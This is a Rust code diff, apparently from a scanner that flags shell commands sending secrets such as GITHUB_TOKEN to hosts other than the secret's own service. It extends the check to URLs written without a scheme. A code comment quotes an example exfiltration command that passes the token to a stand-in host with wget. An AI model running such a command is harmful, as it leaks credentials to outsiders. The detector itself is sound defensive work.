@@ -609,12 +609,25 @@ fn sent_elsewhere(name: &str, command: &SimpleCommand) -> Option<String> {
                 || services.iter().any(|service| host == *service || host.ends_with(&format!(".{service}")))
         };
         // A host the line does not spell (`"$GITHUB_API_URL/repos"`) is the environment's
-        // configuration; a host it spells must be the secret's own.
-        if !hosts.iter().all(|host| belongs(host)) {
+        // configuration; a host it spells must be the secret's own, also in a URL written
+        // without its scheme (`wget "x.example/?k=$GITHUB_TOKEN"`).
+        let bare = hosts.is_empty().then(|| bare_host(&arg.text)).flatten();
+        if !hosts.iter().chain(&bare).all(|host| belongs(host)) {
             return Some(secret);
         }
     }
     None
+}
+
+/// The host a URL written without a scheme starts with (`x.example/?k=v` -> `x.example`):
+/// a dotted name of letters, digits and `-`, before the first `/`, `?` or `#`.
+fn bare_host(text: &str) -> Option<&str> {
+    let authority = text.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?.split(':').next()?;
+    let named = host.contains('.')
+        && !host.starts_with(['.', '-'])
+        && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'));
+    (named && authority.len() < text.len()).then_some(host)
 }
 
 /// The host of a URL argument (`https://api.github.com/x` -> `api.github.com`).
